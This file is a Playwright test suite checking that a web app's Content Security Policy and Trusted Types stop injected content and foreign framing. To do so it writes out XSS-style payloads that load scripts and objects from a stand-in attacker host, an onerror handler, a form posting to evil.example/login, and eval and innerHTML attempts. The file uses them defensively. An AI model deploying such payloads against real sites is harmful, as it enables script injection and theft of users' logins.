import type { Page } from '@playwright/test'
import { initial } from './support/chains.ts'
import { dialog, openConnect, phase } from './support/demo-wallet.ts'
import { expect, test } from './support/test.ts'

const projectId = { WALLETCONNECT_PROJECT_ID: '0123456789abcdef0123456789abcdef' }
const evil = 'http://evil.example'

// Those that pair by the relay: relay.spec.
test('Coinbase Wallet works within the CSP, by its pop-up', async ({ page, context, apps }) => {
  await context.route('https://keys.coinbase.com/**', (route) => route.fulfill({ body: 'the wallet' }))
  await page.goto(await apps.url('plain', projectId))
  await openConnect(page)
  const popup = page.waitForEvent('popup')
  await dialog(page).getByRole('button', { name: 'Coinbase Wallet' }).click()
  await expect((await popup).locator('body')).toHaveText('the wallet')
  // A window without its opener cannot answer it.
  expect(await (await popup).evaluate(() => window.opener !== null)).toBe(true)
})

// Both hosts send one policy: tests/edge/headers.test.ts.
test('injected HTML neither runs nor navigates', async ({ page, apps, refused }) => {
  const origin = await apps.url('node')
  const strangers = await listenAt(page, evil)
  await page.route(`${origin}/`, async (route) => {
    const response = await route.fetch()
    const html = (await response.text()).replace('<head>', `<head>${planted.head}`)
    await route.fulfill({ response, body: html.replace(/<body[^>]*>/, `$&${planted.body}`) })
  })
  await page.goto(origin)
  await page.waitForResponse((response) => response.url().includes(`/api/rpc/${initial.id}`))
  await page.evaluate((stranger) => {
    const form = document.body.appendChild(document.createElement('form'))
    Object.assign(form, { action: `${stranger}/login`, method: 'post' }).submit()
    return fetch(stranger).catch(() => null)
  }, evil)
  await expect
    .poll(() => directivesIn(refused))
    .toEqual([
      'base-uri',
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'object-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-elem',
    ])
  expect(await page.evaluate(() => Reflect.get(window, 'planted'))).toBe(undefined)
  const counted = 'quorate_csp_reports_total{directive="script-src-elem"}'
  await expect
    .poll(async () => (await page.request.get(`${origin}/api/rpc/metrics`)).text())
    .toContain(counted)
  expect(page.url()).toBe(`${origin}/`)
  expect(strangers).toEqual([])
  refused.length = 0
})

test('a script that runs cannot turn text into code or HTML', async ({ page, apps, refused }) => {
  await page.goto(await apps.url('node'))
  await phase(page, 'none').waitFor()
  for (const [name, attempt] of Object.entries(attempts))
    expect(await page.evaluate(attempt), name).toMatch(/^(EvalError|TypeError)/)
  await expect.poll(() => directivesIn(refused)).toEqual(['require-trusted-types-for', 'trusted-types'])
  refused.length = 0
})

// Who may frame which page, on both hosts: tests/edge/headers.test.ts.
for (const [framer, isVisible] of [
  ['https://app.safe.global', true],
  ['https://app.safe.global.evil.example', false],
] as const) {
  test(`${framer} may frame the first page: ${isVisible}`, async ({ page, context, apps, refused }) => {
    const app = await apps.url('plain')
    await context.grantPermissions(['local-network-access'], { origin: framer })
    await page.route(`${framer}/`, (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<iframe src="${app}/" allow="local-network-access *; loopback-network *"></iframe>`,
      }),
    )
    await page.goto(framer)
    const frame = page.frameLocator('iframe')
    if (isVisible) {
      await expect(frame.getByRole('heading', { level: 1 })).toBeVisible()
      // And it opens no other page in the frame.
      await frame.getByRole('contentinfo').getByRole('link', { name: 'Status' }).click()
    }
    await expect.poll(() => refused.join()).toContain('frame-ancestors')
    await expect(frame.getByRole('heading', { level: 1 })).toHaveCount(0)
    refused.length = 0
  })
}

const run = "Reflect.set(window, 'planted', true)"
const planted = {
  head: `<base href="${evil}/"><script>${run}</script><script src="${evil}/x.js"></script>
    <script nonce="guessed">${run}</script><script type="late" src="${evil}/late.js"></script><style>body { display: none }</style>
    <link rel="stylesheet" href="${evil}/x.css">`,
  body: `<img src="data:," onerror="${run}"><img src="${evil}/x.png"><iframe src="${evil}/"></iframe>
    <object data="${evil}/x"></object>`,
}

/** Attempts that return the name of the error that stopped them. */
const attempts: Readonly<Record<string, string>> = Object.fromEntries(
  Object.entries({
    eval: `eval('1')`,
    Function: `new Function('return 1')()`,
    setTimeout: `setTimeout('1')`,
    innerHTML: `document.body.innerHTML = '<b></b>'`,
    srcdoc: `document.createElement('iframe').srcdoc = '<b></b>'`,
    write: `document.write('<b></b>')`,
    'script text': `document.createElement('script').text = '1'`,
    'script address': `document.createElement('script').src = '${evil}/x.js'`,
    'own address': `document.createElement('script').src = '/manifest.json'`,
    'another policy': `trustedTypes.createPolicy('mine', {})`,
  }).map(([name, code]) => [
    name,
    // In a task of the page, because code evaluated by a debugger may use eval.
    `new Promise((end) => setTimeout(() => { try { ${code}; end('ran') } catch (cause) { end(cause.name) } }))`,
  ]),
)

/** The directives with violations, each once. */
function directivesIn(refused: readonly string[]): readonly string[] {
  return [...new Set(refused.flatMap((sentence) => /^([a-z-]+) refused /.exec(sentence)?.[1] ?? []))].sort()
}

/** Requests to a foreign site, which answers all of them. */
async function listenAt(page: Page, origin: string): Promise<readonly string[]> {
  const heard: string[] = []
  await page.route(`${origin}/**`, (route) => {
    heard.push(route.request().url())
    return route.fulfill({ body: run, contentType: 'text/javascript' })
  })
  return heard
}
